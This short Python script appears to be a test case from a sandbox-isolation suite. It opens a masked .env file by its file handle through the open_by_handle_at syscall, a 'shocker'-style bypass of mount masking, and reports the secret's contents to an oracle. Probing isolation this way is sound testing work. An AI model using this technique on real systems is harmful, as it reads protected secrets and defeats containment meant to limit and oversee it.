#!/usr/bin/python3
# Goal:    read .env by its file handle, below any mask mount
# Models:  shocker class on a masked file
# Oracle:  token DOTENV
# Tier:    core
# Needs:   root
from ctk import *

typ, hx = C["ENV_HANDLE"].split(":")
h = bytes.fromhex(hx)
buf = ctypes.create_string_buffer(struct.pack("<Ii", len(h), int(typ)) + h, 8 + len(h))
mfd = os.open(PROJ, os.O_RDONLY | os.O_DIRECTORY)
fd = sc(304, mfd, buf, os.O_RDONLY)
got(os.read(fd, 300).decode(), "handle")
